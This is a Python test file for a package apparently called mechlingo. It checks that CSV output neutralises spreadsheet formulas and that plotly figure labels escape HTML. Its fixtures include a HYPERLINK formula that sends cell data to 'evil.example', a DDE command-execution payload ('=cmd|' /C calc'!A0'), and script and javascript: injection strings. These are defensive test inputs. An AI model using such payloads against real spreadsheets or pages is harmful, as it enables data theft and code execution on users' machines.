"""Text from a user's files stays text in every format mechlingo writes.

- CSV: a facts file whose answers and ids are formulas (``=HYPERLINK(...)``, ``+``, ``-``,
  ``@``, a tab, a carriage return) gives a ``lens.csv`` where each such cell starts with a
  single quote (OWASP's CSV-injection guidance), numbers untouched; every CSV writer of the
  package goes through :func:`mechlingo.core.inert.inert_csv` (a static check).
- Figures: tokens holding ``<br>``, ``<script>`` and ``&`` in a prompt are escaped in the token grid's
  labels, cell texts and hovers, and in the lens heatmap's labels and hovers, so plotly shows
  them as written instead of drawing them; so are relation names in the transfer matrix.
"""

from __future__ import annotations

import ast
import csv
import io
import json
from pathlib import Path

import torch

from mechlingo.cli import main
from mechlingo.core.inert import FORMULA_STARTS, inert_csv

REPO = Path(__file__).resolve().parents[2]

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Paris")', "+1+1", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]  # fmt: skip


def _formula_facts(path: Path) -> Path:
    from mechlingo.data import load_facts

    rows = [f.to_json() for f in load_facts(langs=["en", "fr"], relations=["capital"], limit=3)]
    first = rows[0]["id"]
    for k, row in enumerate(rows):  # the same id in every language: a formula
        row["answer"] = FORMULAS[k % len(FORMULAS)]
        row["id"] = "=cmd|' /C calc'!A0" if row["id"] == first else row["id"]
    path.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    return path


def test_formula_answers_are_inert_in_lens_csv(tiny_dir, tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    facts = _formula_facts(tmp_path / "f.jsonl")
    argv = ["lens", "--model", str(tiny_dir), "--facts", str(facts), "--track", "",
            "--quiet", "--out", "out"]  # fmt: skip
    assert main(argv) == 0, capsys.readouterr().err[-3000:]
    text = (tmp_path / "out" / "lens.csv").read_bytes().decode("utf-8")  # CRs kept
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert rows
    for row in rows:
        for col, cell in row.items():
            if cell.startswith(FORMULA_STARTS):  # only a number may start so
                float(cell), col
    answers = {r["answer"] for r in rows}
    assert answers == {"'" + a for a in FORMULAS}, answers
    assert "'=cmd|' /C calc'!A0" in {r["id"] for r in rows}
    assert any(float(r["logprob"]) < 0 for r in rows)  # negative numbers stay numbers


def test_inert_csv_prefixes_text_only():
    import pandas as pd

    frame = pd.DataFrame({"text": [*FORMULAS, "Paris", "'quoted", ""],
                          "number": [-1.5, 2, -3, 4, 5, 6, 7, 8, 9]})  # fmt: skip
    back = pd.read_csv(io.StringIO(inert_csv(frame)), keep_default_na=False)
    assert list(back["text"]) == ["'" + f for f in FORMULAS] + ["Paris", "'quoted", ""]
    assert list(back["number"]) == [-1.5, 2, -3, 4, 5, 6, 7, 8, 9]
    assert list(frame["text"])[:2] == FORMULAS[:2]  # the frame itself is unchanged


def test_every_csv_goes_through_inert_csv():
    found = []
    for path in sorted((REPO / "mechlingo").rglob("*.py")):
        if path.name == "inert.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
                receiver = getattr(node.func.value, "id", None)
                if node.func.attr == "to_csv" or (
                    receiver == "csv" and node.func.attr in ("writer", "DictWriter")
                ):
                    found.append(f"{path.relative_to(REPO)}:{node.lineno}")
    assert found == [], "CSV written without inert_csv: " + ", ".join(found)


HOSTILE = ["x<br>y", "<script>alert(1)</script>", "a&b", '<a href="javascript:x">y</a>']


def _strings(obj: object) -> list[str]:
    if isinstance(obj, str):
        return [obj]
    if isinstance(obj, dict):
        return [s for v in obj.values() for s in _strings(v)]
    if isinstance(obj, list | tuple):
        return [s for v in obj for s in _strings(v)]
    return []


def _assert_escaped(fig: object, keys: tuple[str, ...]) -> None:
    data = json.loads(fig.to_json())["data"]  # type: ignore[attr-defined]
    texts = [s for trace in data for k in keys for s in _strings(trace.get(k))]
    joined = "\n".join(texts)
    for raw in HOSTILE:
        assert raw not in joined, (raw, joined[:2000])
    assert "x&lt;br&gt;y" in joined and "&lt;script&gt;" in joined and "a&amp;b" in joined


def test_tokens_are_shown_not_drawn_in_the_token_grid():
    from mechlingo.viz.lens import token_grid_figure

    n = len(HOSTILE)
    tops = [[[t, "x"] for t in HOSTILE] for _ in range(2)]
    fig = token_grid_figure(HOSTILE, tops, torch.full((2, n, 2), 0.5),
                            [[["en", None]] * n] * 2, layers=[0, 1])  # fmt: skip
    _assert_escaped(fig, ("x", "text", "customdata"))


def test_prompts_and_answers_are_shown_not_drawn_in_the_lens_heatmap():
    from mechlingo.viz.lens import lens_heatmap

    n = len(HOSTILE)
    fig = lens_heatmap(torch.zeros(2, n, dtype=torch.long), torch.zeros(2, n), layers=[0, 1],
                       prompts=HOSTILE, langs=["en"] * n, answers=HOSTILE,
                       top_tokens=[[[t] for t in HOSTILE] for _ in range(2)])  # fmt: skip
    _assert_escaped(fig, ("y", "hovertext"))


def test_relations_are_shown_not_drawn_in_the_transfer_heatmap():
    """A facts file's relation names label the transfer matrix's rows and columns."""
    from mechlingo.viz.steer import transfer_heatmap

    gain = {"estimate": 0.1, "lo": 0.0, "hi": 0.2}
    cells = [{"row": f"all_but_{r}", "col": r, "n": 4, "gain": gain} for r in HOSTILE]
    rows = [f"all_but_{r}" for r in HOSTILE]
    fig = transfer_heatmap(cells, rows=rows, cols=HOSTILE, by="relation")
    _assert_escaped(fig, ("x", "y"))
